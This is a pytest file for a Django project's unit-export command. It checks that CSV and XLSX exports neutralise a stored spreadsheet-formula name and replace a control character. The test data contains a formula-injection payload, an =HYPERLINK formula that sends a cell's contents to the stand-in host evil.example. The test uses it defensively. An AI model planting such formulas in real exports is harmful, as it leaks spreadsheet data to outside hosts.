"""Issue 13 item 7: `renkou units export` survives a stored control character in a unit name
and writes a formula-like name as text, in CSV and XLSX."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from renkou.core.models import OrgUnit

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


@pytest.mark.parametrize("extension", [".csv", ".xlsx"])
def test_units_export_is_safe(cast, tmp_path, extension):
    # Stored before input checking existed: written past the actions on purpose.
    OrgUnit.objects.filter(pk=cast.units["village"].pk).update(name="东门\u000b社区")
    OrgUnit.objects.filter(pk=cast.units["village2"].pk).update(name=HYPERLINK)
    path = tmp_path / f"units{extension}"
    call_command("units", "export", str(path), stdout=io.StringIO())
    if extension == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    else:
        rows = [
            tuple("" if v is None else v for v in row)
            for row in load_workbook(path).active.iter_rows(values_only=True)
        ]
    names = {row[1] for row in rows[1:]}
    assert "'" + HYPERLINK in names
    assert "东门\ufffd社区" in names
    levels = {row[4] for row in rows[1:]}
    assert levels <= ({"1", "2", "3", "4"} if extension == ".csv" else {1, 2, 3, 4})
